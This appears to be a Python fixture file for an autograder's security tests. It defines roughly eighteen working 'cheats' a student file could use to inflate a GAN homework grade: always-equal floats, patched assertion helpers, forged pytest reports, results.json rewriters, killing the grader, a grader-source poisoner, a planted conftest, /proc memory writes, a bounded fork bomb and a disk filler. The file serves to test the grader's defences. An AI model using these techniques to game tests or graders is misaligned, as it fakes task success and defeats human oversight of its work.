"""Generic cheats a student could add to a WRONG hw5_gan.py to raise its grade, each one edit of the wrong file.

WRONG, the honest wrong file: tests/corpus/gan/plain.py whose `_get_loss_d` computes the generated images' BCE
against zeros but returns `loss_real` alone, so the discriminator never learns to reject fakes (7 / 12: it loses 4.d,
the loss's value, and 4.f, the training).

Each entry of CHEATS: `name`; `what`, one sentence on the attack; `old`, text that occurs exactly once in the wrong
file; `new`, its replacement, which keeps the wrong file's honest mistake and adds the cheat (the edit format of
tests/corpus/gan/flaws.py); `rows`, where the cheat aims at a slow row, that row (tests/test_attacks.py grades the
quick rows, of at most 60 s, and these). A cheat never computes the right answer nor knows the expected values: it only
subverts the grader. Graded with the cheat, the file must score no more than the wrong file itself (7 / 12) on every
row, results.json must not change after the grader returns, and a LATER grading of the wrong file by the same grader
checkout must still score 7 (poison_grader_source, plant_conftest). read_the_tests raises no score: it succeeds
when the test file's `REAL_LOGITS = [2.0, -1.0, 0.5]` appears in results.json.

Where a cheat runs:
- import time (`AT_IMPORT`): the grader runs only the imports, definitions and simple assignments of a student's
  file (grading.top_level_plan), but a class body is a definition and may hold any statement, so import-time
  cheats are simple assignments or class bodies. They run in the grader's import check and in every test's
  process, before the test's body.
- first call (`AT_FIRST_CALL`): inside `GAN._get_loss_d`, which 4.d calls first (4.f trains with it), once per
  test process (`GAN._cheated`); cheats that start processes or write files do it once (a lock file in /tmp; as
  root the grader removes the student user's /tmp files after every test, so there they do it in every test, which
  only makes them stronger).

Resource use is bounded in every cheat: spawned processes exit by themselves within 2 minutes, files written stay
under 1 GiB in all. A cheat that writes outside the grading's own folders names its files `/tmp/hw5-attack-*`.
The grader's results path is read from the command line of an ANCESTOR process (`--results PATH`, as both
`autograder.py run` and its pytest get it), else Gradescope's /autograder/results/results.json: a cheat never
touches another grading's files.
"""
from __future__ import annotations

import textwrap

WRONG = {"base": "plain.py", "old": "        loss_d = loss_real + loss_fake\n",
         "new": "        loss_d = loss_real  # forgot loss_fake\n"}
AT_IMPORT = "from hw5_utils import BASE_URL, download, GANDataset\n"
AT_FIRST_CALL = "        loss_d = loss_real  # forgot loss_fake\n        return loss_d\n"


def at_import(code: str) -> dict:
    """An edit adding `code` (top-level statements) after the wrong file's last import."""
    return {"old": AT_IMPORT, "new": AT_IMPORT + "\n" + textwrap.dedent(code).strip("\n") + "\n"}


def at_first_call(code: str, every_call: bool = False) -> dict:
    """An edit running `code` in _get_loss_d (whose local `loss_d` is the wrong loss), on the first call of each test
    process unless every_call; the code may rebind loss_d before it is returned."""
    body = textwrap.dedent(code).strip("\n")
    if not every_call:
        body = "if not getattr(GAN, '_cheated', False):\n    GAN._cheated = True\n" + textwrap.indent(body, "    ")
    return {"old": AT_FIRST_CALL,
            "new": "        loss_d = loss_real  # forgot loss_fake\n" + textwrap.indent(body, " " * 8) + "\n"
                   "        return loss_d\n"}


# Snippets the cheats below paste into their code (each cheat stays self-contained in the student's file).
ANCESTORS = '''
def ancestors():
    """This process's ancestors, parent first, with their command lines."""
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [arg.decode(errors="replace") for arg in f.read().split(b"\\0")]
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return
        yield pid, args
        pid = parent

def results_path():
    for pid, args in ancestors():
        if "--results" in args:
            return args[args.index("--results") + 1]
    return "/autograder/results/results.json"
'''

FULL_MARKS = '''
def full_marks():
    """A Gradescope results.json with every row of this file's assignment at its max (from the grader's rubric)."""
    rubric = sys.modules["rubric"]
    assignment = next(a for a in rubric.ASSIGNMENTS.values() if a.script == __name__)
    tests = [{"name": f"{row.number} {row.title}", "number": row.number, "score": row.points,
              "max_score": row.points, "status": "passed", "output": "passed", "visibility": row.visibility}
             for row in assignment.rows.values()]
    total = sum(test["score"] for test in tests)
    return {"score": total, "execution_time": 12.3, "output": f"{total:g} / {total:g} points.",
            "stdout_visibility": "hidden", "tests": tests}
'''

ONCE_PER_RUN = '''
def once_per_run(tag):
    """True the first time its lock file in /tmp is made (as root the grader removes it after every test)."""
    try:
        os.close(os.open(f"/tmp/.hw5-attack-{tag}", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        return True
    except OSError:
        return False
'''

# The detached process of detached_rewrite: rewrites results.json (argv[1]) with every row at its max whenever it
# holds a lower score, until 3 s after the grader's processes (argv[2:]) are gone, 110 s at most.
REWRITER = r'''
import json, os, sys, time
path, pids = sys.argv[1], sys.argv[2:]
end, gone = time.time() + 110, None
while time.time() < end:
    try:
        with open(path) as f:
            data = json.load(f)
        if any(t["score"] < t["max_score"] for t in data["tests"]):
            for t in data["tests"]:
                t["score"], t["status"] = t["max_score"], "passed"
            data["score"] = sum(t["max_score"] for t in data["tests"])
            data["output"] = f"{data['score']:g} / {data['score']:g} points."
            with open(path + ".x", "w") as f:
                json.dump(data, f)
            os.replace(path + ".x", path)
    except (OSError, ValueError, KeyError, TypeError):
        pass
    if not any(os.path.exists(f"/proc/{p}") for p in pids):
        gone = gone or time.time()
        if time.time() - gone > 3:
            break
    time.sleep(0.01)
'''

CHEATS = [
    {
        "name": "detached_rewrite",
        "what": "At the first call, start a detached process (its own session, so the grader's process-group kill "
                "misses it) that waits for the grader to write results.json and rewrites it with every row at its "
                "max.",
        **at_first_call("import os, subprocess, sys\n" + ANCESTORS + ONCE_PER_RUN + f"""
REWRITER = {REWRITER!r}
if once_per_run("detached"):
    graders = [str(pid) for pid, args in ancestors() if "--results" in args]
    subprocess.Popen([sys.executable, "-c", REWRITER, results_path(), *graders], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""),
    },
    {
        "name": "always_equal_float",
        "what": "The loss's .item() gives a float subclass equal to everything, so `loss.item() == "
                "pytest.approx(v)` passes; the tensor itself still backpropagates.",
        **at_first_call("""
class AlwaysEqual(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__

value = loss_d.item()
loss_d.item = lambda: AlwaysEqual(value)
""", every_call=True),
    },
    {
        "name": "patched_checks_at_import",
        "what": "Top-level assignments replace builtins.any, torch.allclose and torch.testing.assert_close with "
                "checks that always pass, in the process that runs the test's assertions.",
        **at_import("""
import builtins
import torch.testing
builtins.any = lambda iterable: True
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
"""),
    },
    {
        "name": "patched_checks_at_first_call",
        "rows": ("test_4f_training",),
        "what": "At the first call, replace pytest.approx (in pytest and in every test module that holds it) by an "
                "object equal to everything, and the calling test module's distance helpers by ones that return 0.",
        **at_first_call("""
import sys

class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

pytest = sys.modules["pytest"]
approx = pytest.approx
pytest.approx = lambda *args, **kwargs: Anything()
frame, modules = sys._getframe(), {name: module for name, module in sys.modules.items() if name.startswith("test_")}
while frame is not None:  # the test modules on the call stack too
    if frame.f_globals.get("__name__", "").startswith("test_"):
        modules[frame.f_globals["__name__"]] = sys.modules.get(frame.f_globals["__name__"])
    frame = frame.f_back
for module in filter(None, modules.values()):
    for name, value in list(vars(module).items()):
        if value is approx:
            setattr(module, name, pytest.approx)
        elif callable(value) and any(word in name.lower() for word in ("frechet", "distance", "error")):
            setattr(module, name, lambda *args, **kwargs: 0.0)
"""),
    },
    {
        "name": "forged_report",
        "what": "At the first call, walk the stack to the grader's run_in_child frame, write a 'passed' report for "
                "the running test to the pipe back to the grader, and os._exit(0) before the assertions run.",
        **at_first_call("""
import json, os, sys
frame = sys._getframe()
while frame is not None and not {"item", "write_fd"} <= frame.f_locals.keys():
    frame = frame.f_back
if frame is not None:
    item, fd = frame.f_locals["item"], frame.f_locals["write_fd"]
    report_class = sys.modules["_pytest.reports"].TestReport
    payload = json.dumps([item.config.hook.pytest_report_to_serializable(config=item.config, report=report_class(
        nodeid=item.nodeid, location=item.location, keywords={}, outcome="passed", longrepr=None, when=when))
        for when in ("setup", "call", "teardown")]).encode()
    while payload:
        payload = payload[os.write(fd, payload):]
    os._exit(0)
"""),
    },
    {
        "name": "write_results_directly",
        "what": "At the first call, write a full-marks results.json at the path the grader will use.",
        **at_first_call("import json, os, sys\n" + ANCESTORS + FULL_MARKS + """
os.makedirs(os.path.dirname(results_path()), exist_ok=True)  # Gradescope's results/ may not exist yet
with open(results_path(), "w") as f:
    json.dump(full_marks(), f)
"""),
    },
    {
        "name": "kill_the_grader",
        "what": "At the first call, write a full-marks results.json, then SIGKILL `autograder.py run` and its pytest "
                "(the ancestors given --results) so that neither writes its own.",
        **at_first_call("import json, os, signal, sys\n" + ANCESTORS + FULL_MARKS + """
os.makedirs(os.path.dirname(results_path()), exist_ok=True)  # Gradescope's results/ may not exist yet
with open(results_path(), "w") as f:
    json.dump(full_marks(), f)
for pid, args in reversed(list(ancestors())):  # autograder.py run first, then its pytest
    if "--results" in args:
        os.kill(pid, signal.SIGKILL)
os._exit(0)
"""),
    },
    {
        "name": "exit_mid_test",
        "what": "os._exit(0) in the middle of every test that calls _get_loss_d.",
        **at_first_call("""
import os
os._exit(0)
"""),
    },
    {
        "name": "fork_bomb",
        "what": "At the first call, a BOUNDED fork bomb: 300 `sleep 60.123` processes, each in a session of its own so "
                "that the grader's process-group kill misses them (each exits by itself after 60 s).",
        **at_first_call("import os, subprocess\n" + ONCE_PER_RUN + """
if once_per_run("forks"):
    for _ in range(300):
        try:
            subprocess.Popen(["sleep", "60.123"], start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            break
"""),
    },
    {
        "name": "fill_the_disk",
        "what": "At the first call, a BOUNDED disk filler: 1000 MiB in four 250-MiB files, two in the test's working "
                "folder and two in /tmp (/tmp/hw5-attack-fill-*), left behind.",
        **at_first_call("import os\n" + ONCE_PER_RUN + """
if once_per_run("fill"):
    chunk = b"\\0" * (1 << 20)
    for path in ("fill-0.bin", "fill-1.bin", f"/tmp/hw5-attack-fill-{os.getpid()}-0.bin",
                 f"/tmp/hw5-attack-fill-{os.getpid()}-1.bin"):
        try:
            with open(path, "wb") as f:
                for _ in range(250):
                    f.write(chunk)
        except OSError:
            break
"""),
    },
    {
        "name": "print_megabytes",
        "what": "At the first call of each test, print 50 MB to stdout and 50 MB to stderr.",
        **at_first_call("""
import sys
line = "x" * 1023 + "\\n"
for stream in (sys.stdout, sys.stderr):
    for _ in range(50):
        stream.write(line * 1024)
    stream.flush()
"""),
    },
    {
        "name": "read_the_tests",
        "what": "At the first call, find the graded test file (the call stack, sys.modules, the grader's cwd via "
                "/proc, /autograder/source/tests) and print its constants and assertions into the test's output.",
        **at_first_call("""
import os, sys
found, frame = [], sys._getframe()
while frame is not None:  # the test's own file, on the call stack
    if os.path.basename(frame.f_code.co_filename).startswith("test_grade_"):
        found.append(frame.f_code.co_filename)
    frame = frame.f_back
found += [getattr(m, "__file__", "") or "" for n, m in list(sys.modules.items()) if n.startswith("test_grade_")]
found += [f"/proc/{os.getppid()}/cwd/tests/test_grade_gan.py", "/autograder/source/tests/test_grade_gan.py"]
for path in found:
    try:
        with open(path) as f:
            text = f.read()
    except OSError:
        continue
    leaked = [line.strip() for line in text.splitlines()
              if "LOGITS = [" in line or "STEPS = " in line or line.strip().startswith(("assert ", "total = "))]
    print("LEAKED from", path, "\\n" + "\\n".join(leaked)[:1800])
    break
"""),
    },
    {
        "name": "poison_grader_source",
        "what": "At the first call, append to the grader's own tests/grading.py (found through sys.modules) a "
                "`grade` that puts every row at its max: this grading already holds the old code, every LATER one "
                "(a regrade, the next student of grade-all) uses the poisoned one.",
        **at_first_call("""
import sys
path = sys.modules["grading"].__file__
with open(path) as f:
    poisoned = "hw5-attack-poison" in f.read()
if not poisoned:
    with open(path, "a") as f:
        f.write("\\n\\n_graded_honestly = grade  # hw5-attack-poison\\n\\n\\n"
                "def grade(assignment, outcomes, collect_error):\\n"
                "    return [dict(test, score=test['max_score'], status='passed')\\n"
                "            for test in _graded_honestly(assignment, outcomes, collect_error)]\\n")
"""),
    },
    {
        "name": "plant_conftest",
        "what": "At the first call, plant a conftest.py at the grader's rootdir (next to tests/) whose report hook "
                "marks every test passed: LATER gradings (a regrade, the next student of grade-all) load it.",
        **at_first_call("""
import os, sys
root = os.path.dirname(os.path.dirname(sys.modules["grading"].__file__))
planted = os.path.join(root, "conftest.py")
if not os.path.exists(planted):
    with open(planted, "w") as f:
        f.write("import pytest  # hw5-attack-conftest\\n\\n\\n"
                "@pytest.hookimpl(hookwrapper=True)\\n"
                "def pytest_runtest_makereport(item, call):\\n"
                "    outcome = yield\\n"
                "    report = outcome.get_result()\\n"
                "    report.outcome, report.longrepr = 'passed', None\\n")
"""),
    },
    {
        "name": "results_tmp_blocker",
        "what": "At the first call, write a full-marks results.json and make a DIRECTORY of the temporary file the "
                "grader writes before renaming it (.results.json.tmp): the grader's own write then fails, and "
                "`autograder.py run` keeps the forged file since it holds `tests`.",
        **at_first_call("import json, os, sys\n" + ANCESTORS + FULL_MARKS + ONCE_PER_RUN + """
if once_per_run("blocker"):
    path = results_path()
    os.makedirs(os.path.dirname(path), exist_ok=True)  # Gradescope's results/ may not exist yet
    with open(path, "w") as f:
        json.dump(full_marks(), f)
    os.makedirs(os.path.join(os.path.dirname(path), f".{os.path.basename(path)}.tmp"), exist_ok=True)
"""),
    },
    {
        "name": "proc_mem_patch_parent",
        "what": "At the first call, write into the pytest parent's memory through /proc/<ppid>/mem (a forked child "
                "knows the parent's addresses): the float 0.0 that grading.grade gives a failed row becomes the "
                "rubric's mean points per row.",
        **at_first_call("""
import os, struct, sys
grade = sys.modules["grading"].grade.__code__
zero = next((c for c in grade.co_consts if type(c) is float and c == 0.0), None)  # None: an earlier test did it
rows = [row for a in sys.modules["rubric"].ASSIGNMENTS.values() if a.script == __name__ for row in a.rows.values()]
try:
    if zero is not None:
        with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as mem:
            mem.seek(id(zero) + 16)  # PyFloatObject: refcount, type, then the double
            mem.write(struct.pack("d", sum(row.points for row in rows) / len(rows)))
except OSError as error:
    print("no write to the parent's memory:", error)
"""),
    },
    {
        "name": "pytest_plugin_hook",
        "what": "A class body run at import finds pytest's Config through gc and registers a plugin whose "
                "pytest_runtest_makereport wrapper marks every phase of every test passed.",
        "old": AT_IMPORT,
        "new": AT_IMPORT + '''import gc
import pytest
import _pytest.config


class _ForgeReports:
    """Rewrites each report of the test process this file is imported in."""

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None


class _Register:  # a class body: the grader runs it on import
    for _config in gc.get_objects():
        if isinstance(_config, _pytest.config.Config) and not _config.pluginmanager.has_plugin("hw5-attack"):
            _config.pluginmanager.register(_ForgeReports(), "hw5-attack")
''',
    },
    {
        "name": "patched_judge_at_import",
        "rows": ("test_4f_training",),
        "what": "A class body run at import wraps the grader's hw5_utils.judge_digits so that every call after the "
                "first (the untrained generator's) reports a Fréchet distance of 0.",
        **at_import("""
import hw5_utils


class _Judge:  # a class body: the grader runs it on import
    real, calls = hw5_utils.judge_digits, []

    def judged(*args, _real=real, _calls=calls, **kwargs):
        found = _real(*args, **kwargs)
        _calls.append(1)
        return found if len(_calls) == 1 else {**found, "frechet_distance": 0.0}

    hw5_utils.judge_digits = judged
"""),
    },
    {
        "name": "memorized_samples",
        "rows": ("test_4f_training",),
        "what": "Keep the real batches the grader passes to _get_loss_d, and make GNet.forward, when called without "
                "gradients (sampling for a judge, never training), return those real images: a sample-quality check "
                "judges the grader's own data.",
        **at_first_call("""
if not hasattr(GAN, "_memory"):
    GAN._memory, real_forward = [], GNet.forward

    def forward(gen, z, _real=real_forward):
        if GAN._memory and not torch.is_grad_enabled():
            pool = torch.cat(GAN._memory)
            return pool[torch.randint(len(pool), (len(z),))].to(z.device)
        return _real(gen, z)

    GNet.forward = forward
if sum(len(batch) for batch in GAN._memory) < 2000:
    GAN._memory.append(batch_data.detach().clone())
""", every_call=True),
    },
]
